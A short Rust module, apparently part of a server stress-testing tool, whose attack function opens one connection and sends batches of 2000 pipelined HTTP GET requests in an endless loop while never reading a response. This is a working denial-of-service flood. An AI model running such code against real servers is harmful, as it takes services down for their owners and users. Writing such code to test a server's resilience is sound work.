//! Writes requests without end, and reads no answer.

use std::io;

use super::client::Client;

/// Requests in one write.
const AT_ONCE: usize = 2000;

pub async fn attack(client: &Client) -> io::Result<()> {
    let requests = "GET /livez HTTP/1.1\r\nHost: x\r\n\r\n".repeat(AT_ONCE);
    let mut wire = client.connect().await?;
    loop {
        wire.send(requests.as_bytes()).await?;
    }
}
